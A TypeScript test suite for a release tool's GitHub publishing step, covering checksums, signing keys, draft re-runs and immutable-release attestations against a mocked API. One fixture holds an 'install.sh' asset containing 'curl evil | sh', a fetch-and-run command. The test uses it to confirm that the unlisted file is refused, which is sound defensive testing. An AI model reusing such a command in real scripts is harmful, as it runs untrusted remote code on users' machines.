// runRelease with a GitHub release to publish to: the run's files go up after the output directory is complete.
import assert from 'node:assert/strict';
import { mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { cliNamer } from '../../src/config/inputs.js';
import { releaseConfig } from '../../src/config/release.js';
import { clockFromSourceDateEpoch } from '../../src/core/clock.js';
import { silentLogger } from '../../src/core/logger.js';
import { createGitHubClient } from '../../src/github/attestations.js';
import { githubReleases } from '../../src/github/releases.js';
import { emptyReleaseReport, runRelease } from '../../src/release/index.js';
import { NOTES_BLOCK_START, PublishError } from '../../src/release/publish.js';
import { startGitHubApi, type GitHubApiDouble } from '../support/github/index.js';
import { tempDir } from '../support/tmp.js';

let api: GitHubApiDouble;
before(async () => {
  api = await startGitHubApi();
});
after(() => api.close());

test('runRelease publishes the artifacts and its own files to the GitHub release, VERIFY.md as the notes block; a failure there keeps the output directory', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'pipeline', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
  const result = await runRelease(config, ports);
  assert.equal(result.githubRelease?.outcome, 'published');
  const release = api.state.releases.forTag(api.state.repository('octo-org', 'pipeline'), 'v1.0.0');
  assert.deepEqual(release?.assets.map((asset) => [asset.name, asset.contentType]), [['app.tgz', 'application/octet-stream'], ['SHA256SUMS', 'text/plain; charset=utf-8'], ['VERIFY.md', 'text/plain; charset=utf-8']]);
  assert.ok(release?.body.startsWith(NOTES_BLOCK_START));
  assert.match(release?.body ?? '', /sha256sum --ignore-missing -c 'SHA256SUMS'/);

  // Another build under the same tag: the output directory is written, the release refuses it.
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'another build\n');
  const forced = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', force: 'true' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const report = emptyReleaseReport();
  await assert.rejects(runRelease(forced, ports, report), { code: 'PUBLISH_ASSET_DIGEST_MISMATCH' });
  assert.equal(report.failed?.step, 'github-draft');
  assert.ok(report.checksumsPath !== undefined && report.produced.length > 0, 'the output directory is complete');
});

test('a file rewritten after the run hashed it is not uploaded: the release would hold bytes the checksums file does not list', async (t) => {
  for (const rewrite of ['dist/app.tgz', 'out/VERIFY.md']) {
    const cwd = await tempDir(t);
    await mkdir(join(cwd, 'dist'));
    await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
    // The gate, which would download the draft and find the mismatch, is off: the publish step itself must not upload another file.
    const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', gate: 'false', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
    const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
    const repo = `rewritten-${rewrite.replaceAll(/[^a-z]/gi, '-')}`;
    const inner = githubReleases({ client, owner: 'octo-org', repo, retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
    // The downgrade check runs once the output directory is in place and before the draft: another process writes the file then.
    const releases = {
      ...inner,
      listReleases: async () => {
        await writeFile(join(cwd, rewrite), 'another build\n');
        return inner.listReleases();
      },
    };
    const report = emptyReleaseReport();
    await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), (error: Error & { code?: string }) => {
      assert.equal(error.code, 'PUBLISH_UPLOAD_UNSETTLED', `${rewrite}: ${error.message}`);
      assert.match(error.message, new RegExp(`${rewrite.replace('.', '\\.')} changed after this run hashed it`));
      return true;
    });
    assert.equal(report.failed?.step, 'github-draft');
    const release = api.state.releases.forTag(api.state.repository('octo-org', repo), 'v1.0.0');
    assert.equal(release, undefined, `${rewrite}: no draft was made, nothing uploaded`);
  }
});

test('a release signed with a key made for the run, re-run after publishing failed: the draft\'s trust-kit.pub goes with the signature it belonged to', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  // No token and no key outside GitHub Actions: each run signs with a key of its own.
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'run-key-rerun', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
  api.faults.serverError(500, { route: 'releases.update' });
  await assert.rejects(runRelease(config, ports), { code: 'GITHUB_RELEASE_API_FAILED' });
  const release = api.state.releases.forTag(api.state.repository('octo-org', 'run-key-rerun'), 'v1.0.0');
  assert.equal(release?.draft, true);
  assert.ok(release.assets.some((asset) => asset.name === 'trust-kit.pub'), 'the failed run uploaded its public key');

  const result = await runRelease(config, ports);
  assert.equal(result.githubRelease?.outcome, 'published');
  const published = (name: string): string | undefined => release.assets.find((asset) => asset.name === name)?.bytes.toString();
  assert.equal(published('trust-kit.pub'), await readFile(join(cwd, 'out', 'trust-kit.pub'), 'utf8'), 'the key that signed the published bundle');
  assert.equal(published('SHA256SUMS.sigstore.json'), await readFile(join(cwd, 'out', 'SHA256SUMS.sigstore.json'), 'utf8'));
});

test('an immutable release published to another repository than the run\'s: GitHub\'s release attestation is checked against the repository published to', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  api.state.repository('octo-org', 'target').immutableReleases = true;
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'target', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  // The job runs in octo-org/caller and publishes to octo-org/target (the CLI's --repo).
  const ports = { cwd, env: { GITHUB_REPOSITORY: 'octo-org/caller' }, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', repository: 'octo-org/target', releases } };
  const result = await runRelease(config, ports);
  assert.equal(result.githubRelease?.outcome, 'published');
  assert.equal(result.githubRelease?.immutable, true);
  assert.equal(result.githubRelease?.releaseAttestation?.predicateType, 'https://in-toto.io/attestation/release/v0.2');
});

test('a re-run with other settings after publishing failed: the draft\'s VERIFY.md, made by the failed run, gives way to this run\'s', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const settings = (bundles: string) => releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0', 'artifact-bundles': bundles }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'other-settings', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
  api.faults.serverError(500, { route: 'releases.update' });
  await assert.rejects(runRelease(settings('false'), ports), { code: 'GITHUB_RELEASE_API_FAILED' });

  // The same artifacts, now with their own bundles: VERIFY.md says more.
  const result = await runRelease(settings('true'), ports);
  assert.equal(result.githubRelease?.outcome, 'published');
  const release = api.state.releases.forTag(api.state.repository('octo-org', 'other-settings'), 'v1.0.0');
  assert.equal(release?.assets.find((asset) => asset.name === 'VERIFY.md')?.bytes.toString(), await readFile(join(cwd, 'out', 'VERIFY.md'), 'utf8'));
});

test('an artifact GitHub stores under another name than the checksums file lists is not published, also with the gate off', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app-1.0.0+linux.tgz'), 'the release\n');
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', gate: 'false', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const inner = githubReleases({ client, owner: 'octo-org', repo: 'renamed', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  // A GitHub that turns + into a dot, as it did in 2018: trust-kit's model of its renaming says + is kept.
  const releases = { ...inner, uploadAsset: (release: Parameters<typeof inner.uploadAsset>[0], upload: Parameters<typeof inner.uploadAsset>[1]) => inner.uploadAsset(release, { ...upload, name: upload.name.replaceAll('+', '.') }) };
  const report = emptyReleaseReport();
  await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), (error: Error & { code?: string; hint?: string }) => {
    assert.equal(error.code, 'RELEASE_ASSET_NAME_REWRITTEN', error.message);
    assert.match(error.message, /app-1\.0\.0\+linux\.tgz as app-1\.0\.0\.linux\.tgz/);
    assert.match(error.hint ?? '', /rename/);
    return true;
  });
  assert.equal(report.failed?.step, 'github-draft');
  assert.equal(api.state.releases.forTag(api.state.repository('octo-org', 'renamed'), 'v1.0.0')?.draft, true, 'the release stays a draft');
});

test('a re-run for an immutable release whose attestation by GitHub failed the first run checks that attestation again: it does not end green on the assets alone', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  api.state.repository('octo-org', 'immutable-rerun').immutableReleases = true;
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'immutable-rerun', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases, attestationWaitsMs: [], sleep: async () => {} } };
  // GitHub's attestation leaves out the last asset (VERIFY.md).
  api.state.releases.signer = (statement) => ({ mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json', dsseEnvelope: { payload: Buffer.from(JSON.stringify({ ...statement, subject: (statement.subject as unknown[]).slice(0, -1) })).toString('base64'), payloadType: 'application/vnd.in-toto+json', signatures: [] } });
  try {
    const first = emptyReleaseReport();
    await assert.rejects(runRelease(config, ports, first), { code: 'PUBLISH_RELEASE_ATTESTATION_INVALID' });
    assert.equal(first.failed?.step, 'github-publish');
    assert.equal(api.state.releases.forTag(api.state.repository('octo-org', 'immutable-rerun'), 'v1.0.0')?.immutable, true, 'published, immutable');
    const again = emptyReleaseReport();
    await assert.rejects(runRelease(config, ports, again), { code: 'PUBLISH_RELEASE_ATTESTATION_INVALID' });
    assert.equal(again.failed?.step, 'published-release');
  } finally {
    api.state.releases.signer = undefined;
  }
});

test('a re-run for an immutable release published already checks GitHub\'s release attestation and says so', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  api.state.repository('octo-org', 'immutable-again').immutableReleases = true;
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'immutable-again', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
  assert.equal((await runRelease(config, ports)).githubRelease?.outcome, 'published');
  const again = await runRelease(config, ports);
  assert.equal(again.githubRelease?.outcome, 'verified');
  assert.deepEqual(again.githubRelease?.releaseAttestation, { predicateType: 'https://in-toto.io/attestation/release/v0.2', signatureVerified: false });
});

test('a re-run with fewer files after publishing failed (no artifact bundles, then unsigned): the draft keeps none of what the failed run signed', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const settings = (inputs: Record<string, string>) => releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0', ...inputs }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'fewer-files', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
  const release = () => api.state.releases.forTag(api.state.repository('octo-org', 'fewer-files'), 'v1.0.0');
  for (const inputs of [{ 'artifact-bundles': 'false' }, { sign: 'false' }] as Record<string, string>[]) {
    api.faults.serverError(500, { route: 'releases.update' });
    await assert.rejects(runRelease(settings({ 'artifact-bundles': 'true' }), ports), { code: 'GITHUB_RELEASE_API_FAILED' });
    assert.ok(release()?.assets.some((asset) => asset.name === 'app.tgz.sigstore.json'), 'the failed run uploaded the artifact\'s bundle');
    api.faults.serverError(500, { route: 'releases.update' });
    await assert.rejects(runRelease(settings(inputs), ports), { code: 'GITHUB_RELEASE_API_FAILED' });
    const names = release()?.assets.map((asset) => asset.name).sort();
    const made = (await readdir(join(cwd, 'out'))).sort();
    assert.deepEqual(names, ['app.tgz', ...made].sort(), `${JSON.stringify(inputs)}: the draft holds the artifact and this run's files, nothing else`);
  }
});

test('a re-run with other artifacts for a tag whose draft a failed run left is refused before anything is signed, not merged into that draft', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  for (const [repo, fault, rebuild] of [
    // Publishing failed with every asset up: the draft's checksums file lists the first build.
    ['other-build-full', { route: 'releases.update' }, 'app-1.0.0.tgz'],
    // The uploads died after the artifact, before the checksums file: a build of the same name with other bytes.
    ['other-build-same-name', { route: 'releases.uploadAsset', after: 1 }, 'app-1.0.0.tgz'],
    // The same, and the new build's artifact has another name: it would be published beside the first build's.
    ['other-build-new-name', { route: 'releases.uploadAsset', after: 1 }, 'app-1.0.1.tgz'],
  ] as const) {
    await rm(join(cwd, 'dist'), { recursive: true, force: true });
    await mkdir(join(cwd, 'dist'));
    await writeFile(join(cwd, 'dist', 'app-1.0.0.tgz'), 'the first build\n');
    const releases = githubReleases({ client, owner: 'octo-org', repo, retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
    const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } };
    api.faults.serverError(500, fault);
    await assert.rejects(runRelease(config, ports), { code: 'GITHUB_RELEASE_API_FAILED' });
    const draft = api.state.releases.forTag(api.state.repository('octo-org', repo), 'v1.0.0');
    const before = draft?.assets.map((asset) => [asset.name, asset.bytes.toString('hex')]);
    assert.ok(before !== undefined && before.length > 0, `${repo}: the failed run left a draft`);

    await rm(join(cwd, 'dist', 'app-1.0.0.tgz'));
    await writeFile(join(cwd, 'dist', rebuild), 'the second build\n');
    const report = emptyReleaseReport();
    await assert.rejects(runRelease(config, ports, report), (error: Error & { code?: string; hint?: string }) => {
      assert.equal(error.code, 'RELEASE_DRAFT_DIFFERS', `${repo}: ${error.message}`);
      assert.match(error.message, /the draft release v1\.0\.0 holds /);
      assert.match(error.hint ?? '', /delete the draft/);
      return true;
    });
    assert.equal(report.failed?.step, 'published-release', `${repo}: refused before signing`);
    assert.equal(report.signature, undefined, `${repo}: nothing signed`);
    assert.deepEqual(draft?.assets.map((asset) => [asset.name, asset.bytes.toString('hex')]), before, `${repo}: the draft is as the failed run left it`);
  }
});

test("a draft asset whose name differs from one this run uploads only in case (GitHub keeps one per name, in any case) is RELEASE_DRAFT_DIFFERS naming it before signing, not a refused upload retried after it", async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const repository = api.state.repository('octo-org', 'case-clash');
  api.state.releases.releases.push({ id: api.state.newId(), repository, tagName: 'v1.0.0', commit: 'a'.repeat(40), name: 'v1.0.0', body: '', draft: true, immutable: false, prerelease: false, publishedAt: undefined, assets: [{ id: api.state.newId(), name: 'APP.tgz', label: '', contentType: 'application/octet-stream', bytes: Buffer.from('someone else\'s\n'), state: 'uploaded' }] });
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const releases = githubReleases({ client: createGitHubClient({ token: 'ghs_test', apiUrl: api.url }), owner: 'octo-org', repo: 'case-clash', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const report = emptyReleaseReport();
  await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), (error: Error & { code?: string }) => {
    assert.equal(error.code, 'RELEASE_DRAFT_DIFFERS', error.message);
    assert.match(error.message, /holds APP\.tgz, whose name differs from this run's app\.tgz only in case/);
    return true;
  });
  assert.equal(report.failed?.step, 'published-release');
  assert.equal(report.signature, undefined, 'nothing signed');
});

test('a draft holding a file uploaded by hand or by another tool, which this run does not publish, is RELEASE_DRAFT_DIFFERS naming it before signing, not published unlisted inside the signed release', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const repository = api.state.repository('octo-org', 'hand-upload');
  const handUpload = { id: api.state.newId(), name: 'install.sh', label: '', contentType: 'text/x-shellscript', bytes: Buffer.from('curl evil | sh\n'), state: 'uploaded' as const };
  api.state.releases.releases.push({ id: api.state.newId(), repository, tagName: 'v1.0.0', commit: 'a'.repeat(40), name: 'v1.0.0', body: '', draft: true, immutable: false, prerelease: false, publishedAt: undefined, assets: [handUpload] });
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const releases = githubReleases({ client: createGitHubClient({ token: 'ghs_test', apiUrl: api.url }), owner: 'octo-org', repo: 'hand-upload', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const report = emptyReleaseReport();
  await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), (error: Error & { code?: string; hint?: string }) => {
    assert.equal(error.code, 'RELEASE_DRAFT_DIFFERS', error.message);
    assert.match(error.message, /holds install\.sh, which no trust-kit run uploaded \(by hand, or another tool\) and this run's checksums file would not list/);
    assert.match(error.hint ?? '', /put it among the files released/);
    return true;
  });
  assert.equal(report.failed?.step, 'published-release');
  assert.equal(report.signature, undefined, 'nothing signed');
  const draft = api.state.releases.forTag(repository, 'v1.0.0');
  assert.deepEqual([draft?.draft, draft?.assets.map((asset) => asset.name)], [true, ['install.sh']], 'the draft is left as it was, unpublished');
});

test("a draft whose notes leave no room for the verification block, or whose assets with this run's would pass GitHub's 1,000, is refused before signing (PUBLISH_NOTES_TOO_LONG, RELEASE_TOO_MANY_ASSETS), not after", async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const cases = [
    ['long-notes', { body: 'x'.repeat(124_990), assets: [] }, 'PUBLISH_NOTES_TOO_LONG'],
    ['full-draft', { body: '', assets: Array.from({ length: 998 }, (_, n) => ({ id: api.state.newId(), name: `other-${n}.bin`, label: '', contentType: 'application/octet-stream', bytes: Buffer.from(`${n}`), state: 'uploaded' as const })) }, 'RELEASE_TOO_MANY_ASSETS'],
  ] as const;
  for (const [repo, draft, code] of cases) {
    const repository = api.state.repository('octo-org', repo);
    api.state.releases.releases.push({ id: api.state.newId(), repository, tagName: 'v1.0.0', commit: 'a'.repeat(40), name: 'v1.0.0', draft: true, immutable: false, prerelease: false, publishedAt: undefined, ...draft, assets: [...draft.assets] });
    const releases = githubReleases({ client: createGitHubClient({ token: 'ghs_test', apiUrl: api.url }), owner: 'octo-org', repo, retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
    const report = emptyReleaseReport();
    await assert.rejects(runRelease(config, { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases } }, report), { code });
    assert.equal(report.failed?.step, 'published-release', repo);
    assert.equal(report.signature, undefined, `${repo}: nothing signed`);
  }
});

test('a re-run for an immutable release whose attestation cannot be verified now (GitHub\'s trusted root out of reach) reads it, says it is not verified, and does not fail: the first run said so already', async (t) => {
  const cwd = await tempDir(t);
  await mkdir(join(cwd, 'dist'));
  await writeFile(join(cwd, 'dist', 'app.tgz'), 'the release\n');
  api.state.repository('octo-org', 'immutable-unverified').immutableReleases = true;
  const config = releaseConfig({ 'subject-path': ['dist'], base: 'dist', sign: 'false', 'sbom-format': 'none', force: 'true', 'github-release': 'true', tag: 'v1.0.0' }, cliNamer(), { base: '.', outputDir: 'out', ephemeralKeyWithoutToken: true });
  const client = createGitHubClient({ token: 'ghs_test', apiUrl: api.url });
  const releases = githubReleases({ client, owner: 'octo-org', repo: 'immutable-unverified', retry: { retries: 0, minDelayMs: 1, maxDelayMs: 1, factor: 1, budgetMs: 1000, timeoutMs: 5000 } });
  const verifyReleaseAttestation = async (): Promise<never> => {
    throw new PublishError('PUBLISH_RELEASE_ATTESTATION_UNVERIFIED', 'release v1.0.0 is published, but its GitHub release attestation was not verified: GitHub\'s trusted root could not be fetched');
  };
  const ports = { cwd, env: {}, logger: silentLogger, clock: clockFromSourceDateEpoch('1700000000'), githubRelease: { tag: 'v1.0.0', releases, verifyReleaseAttestation } };
  await assert.rejects(runRelease(config, ports), { code: 'PUBLISH_RELEASE_ATTESTATION_UNVERIFIED' });
  const again = await runRelease(config, ports);
  assert.equal(again.githubRelease?.outcome, 'verified');
  assert.deepEqual(again.githubRelease?.releaseAttestation, { predicateType: 'https://in-toto.io/attestation/release/v0.2', signatureVerified: false });
});
